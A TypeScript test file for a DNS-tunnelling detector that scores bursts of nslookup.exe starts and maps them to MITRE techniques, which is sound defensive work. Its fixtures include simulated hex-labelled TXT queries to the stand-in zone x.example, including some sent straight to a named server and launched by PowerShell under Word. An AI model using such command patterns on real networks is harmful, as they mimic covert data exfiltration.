import { describe, expect, test } from 'vitest'
import { evidenceSchema } from '@/lib/domain/evidence'
import { defaultsOf } from '../detector'
import { dnsTunnelingNslookup } from './detector'
import { rule } from './rule'
import { burst, clock, play, processStart, type TestStart } from './testing/play'

const timeOf = (at: number): string => new Date(at).toISOString().slice(11, 19)
const create = () => dnsTunnelingNslookup.create(defaultsOf(rule))

const HEX_LABELS = Array.from(
  { length: 17 },
  (_, index) => `${(index * 7919 + 65_537).toString(16)}f4e1b99d2c7a60${index.toString(16)}x${index}`,
)
const channel = (start: Partial<TestStart> = {}) =>
  HEX_LABELS.map((label, index) =>
    processStart({
      ...start,
      id: index,
      at: clock('10:01:00') + index * 9_000,
      args: ['nslookup.exe', '-querytype=TXT', `${label}.x.example`],
    }),
  )

describe('a finding', () => {
  const [finding] = play(create(), channel())

  test('says in one sentence what happened', () => {
    expect(finding?.summary).toBe(
      '17 nslookup.exe starts with an explicit query type on PC7 in 9 minutes, threshold 15; 17 different names under x.example; started by powershell.exe',
    )
    expect(finding).toMatchObject({ zone: 'x.example', source: 'pc7', hostId: 'h1', hostName: 'PC7', userName: 'alice', distinctNames: 17 })
    expect(finding).toMatchObject({ firstSeenAt: clock('10:01:00'), lastSeenAt: clock('10:03:24'), severity: 'medium', risk: 47 })
  })

  test('has a score that is the sum of its terms and not below the rule', () => {
    expect(finding?.scoreTerms.map(({ id, points }) => [id, points])).toEqual([
      ['rule', 47],
      ['volume', 1],
      ['distinct-targets', 5],
      ['unreadable', 15],
      ['data-types', 8],
      ['script-parent', 8],
    ])
    expect(finding?.score).toBe(84)
  })

  test('claims techniques with the fact that shows them', () => {
    expect(finding?.techniques.map(({ id }) => id)).toEqual(['T1071.004', 'T1071', 'T1059.001', 'T1572'])
    expect(finding?.techniques.every(({ id }) => rule.techniques.includes(id))).toBe(true)
    const [readable] = play(
      create(),
      burst(15, '10:01:00', { args: ['nslookup.exe', '-q=mx', 'mail.partner.example'], parent: { name: 'services.exe' } }),
    )
    expect(readable?.techniques.map(({ id }) => id)).toEqual(['T1071.004', 'T1071'])
    expect(readable?.scoreTerms.reduce((sum, { points }) => sum + points, 0)).toBe(readable?.score)
    expect(readable?.score).toBe(47)
  })

  test.each<[string, string | null, string | null]>([
    ['cmd.exe', null, 'T1059.003'],
    ['pwsh.exe', null, 'T1059.001'],
    ['WSCRIPT.EXE', 'wscript.exe C:\\t\\run.vbs', 'T1059.005'],
    ['cscript.exe', 'cscript.exe C:\\t\\run.js', 'T1059'],
    ['WINWORD.EXE', null, 'T1059'],
    ['monitor.exe', null, null],
  ])('a parent %s (%s) shows %s', (name, commandLine, technique) => {
    const [result] = play(
      create(),
      burst(15, '10:01:00', { args: ['nslookup.exe', '-q=mx', 'mail.partner.example'], parent: { name, commandLine } }),
    )
    expect(result?.techniques.map(({ id }) => id).filter((id) => id.startsWith('T1059'))).toEqual(technique === null ? [] : [technique])
  })

  test('keeps the starts, a minute profile and judged samples, in the shape that is stored', () => {
    expect(evidenceSchema.safeParse(finding?.evidence).success).toBe(true)
    expect(finding?.evidence.processStarts).toHaveLength(17)
    expect(finding?.evidence.processStarts[0]).toMatchObject({
      at: clock('10:01:00'),
      eventId: 0,
      queryType: 'TXT',
      target: `${HEX_LABELS[0]}.x.example`,
      server: null,
      parentName: 'powershell.exe',
      user: 'CORP\\alice',
    })
    expect(finding?.evidence.minutes.map(({ at, queries }) => [timeOf(at), queries])).toEqual([
      ['10:01:00', 7],
      ['10:02:00', 7],
      ['10:03:00', 3],
    ])
    expect(finding?.evidence.samples).toHaveLength(17)
    expect(finding?.evidence.samples.every(({ unreadable, qtype }) => unreadable && qtype === 'TXT')).toBe(true)
    expect(finding?.evidence.metrics).toContainEqual(expect.objectContaining({ id: 'starts', value: 17, threshold: 15 }))
  })

  test('has no zone when the names do not agree on one', () => {
    const stray = processStart({ id: 99, at: clock('10:02:00'), args: ['nslookup.exe', '-q=mx', 'partner.example'] })
    const [mixed] = play(create(), [...channel(), stray])
    expect(mixed?.zone).toBeNull()
    expect(mixed?.summary).toContain('18 different names, 17 of them under x.example')
  })

  test('names the server that was asked directly, and starts that name no host', () => {
    const direct = burst(15, '10:01:00', { args: ['nslookup.exe', '-q=txt', 'a.x.example', '192.0.2.53'] })
    const interactive = processStart({ id: 99, at: clock('10:02:00'), args: ['nslookup.exe', '-q=txt'] })
    const [result] = play(create(), [...direct, interactive])
    expect(result?.evidence.processStarts[0]?.server).toBe('192.0.2.53')
    expect(result?.scoreTerms.find(({ id }) => id === 'direct-server')?.value).toBeCloseTo(15 / 16)
    expect(result?.evidence.notices).toContainEqual(expect.stringMatching(/^1 starts name no host/))
    expect(result?.zone).toBe('x.example')
  })
})

describe('the process tree', () => {
  test('groups the starts below their parents, and knows who started the script host', () => {
    const word = { name: 'WINWORD.EXE', pid: 700, entityId: 'word' }
    const shell = processStart({
      at: clock('10:00:30'),
      name: 'powershell.exe',
      args: ['powershell.exe'],
      pid: 900,
      entityId: 'ps',
      parent: word,
    })
    const byHand = processStart({
      id: 99,
      at: clock('10:02:00'),
      args: ['nslookup.exe', '-q=mx', 'x.example'],
      parent: { name: 'cmd.exe', pid: 800, entityId: 'cmd' },
    })
    const [finding] = play(create(), [shell, ...channel(), byHand])
    expect(finding?.evidence.processTree.map(({ depth, name, starts, pid }) => [depth, name, starts, pid])).toEqual([
      [0, 'WINWORD.EXE', 17, 700],
      [1, 'powershell.exe', 17, 900],
      [2, 'nslookup.exe', 17, null],
      [0, 'cmd.exe', 1, 800],
      [1, 'nslookup.exe', 1, 4242],
    ])
  })

  test('ends where a process id leads back to itself', () => {
    const loop = { name: 'cmd.exe', pid: 5, entityId: null }
    const shell = processStart({ at: clock('10:00:30'), name: 'cmd.exe', args: ['cmd.exe'], pid: 5, parent: loop })
    const [finding] = play(create(), [shell, ...burst(15, '10:01:00', { parent: loop })])
    expect(finding?.evidence.processTree.map(({ name }) => name)).toEqual(['cmd.exe', 'cmd.exe', 'nslookup.exe'])
  })
})
